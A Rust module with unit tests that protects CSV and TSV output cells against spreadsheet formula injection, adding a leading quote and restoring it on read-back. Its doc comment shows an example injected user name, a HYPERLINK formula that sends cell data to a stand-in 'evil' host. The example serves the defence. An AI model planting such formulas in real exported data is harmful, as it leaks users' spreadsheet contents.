//! Cells of the CSV and TSV files Audarma writes (`progress --csv`, the
//! alignment review file), made safe to open in a spreadsheet. A cell that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by
//! Excel, LibreOffice and Google Sheets as a formula, so a user named
//! `=HYPERLINK("http://evil/?"&A1)` would run in the manager's spreadsheet
//! (CSV injection). OWASP's rule: such a cell is written with a `'` in
//! front, which spreadsheets take as "text". Pure.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `s` with a `'` in front when a spreadsheet would read it as a formula.
pub fn defuse(s: &str) -> Cow<'_, str> {
    if s.starts_with(FORMULA_START) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// [`defuse`] for a file Audarma reads back (the review file): a cell that
/// starts with `'` gets one more, so [`restore`] gives back exactly what was
/// written, whatever the text.
pub fn defuse_reversibly(s: &str) -> Cow<'_, str> {
    if s.starts_with('\'') {
        Cow::Owned(format!("'{s}"))
    } else {
        defuse(s)
    }
}

/// The text of a cell written by [`defuse_reversibly`] (one leading `'` off).
pub fn restore(s: &str) -> &str {
    s.strip_prefix('\'').unwrap_or(s)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_get_a_quote_and_others_stay() {
        for f in ["=HYPERLINK(\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(defuse(f), format!("'{f}"), "{f:?}");
        }
        for plain in ["Айгүл", "a=b", "", "1-2", "'quoted"] {
            assert!(matches!(defuse(plain), Cow::Borrowed(_)), "{plain:?}");
        }
    }

    #[test]
    fn the_review_file_form_reads_back_exactly() {
        for s in ["=1", "'=1", "''x", "'", "plain", "-", ""] {
            let written = defuse_reversibly(s);
            assert!(!written.starts_with(FORMULA_START), "{written:?}");
            assert_eq!(restore(&written), s);
        }
    }
}
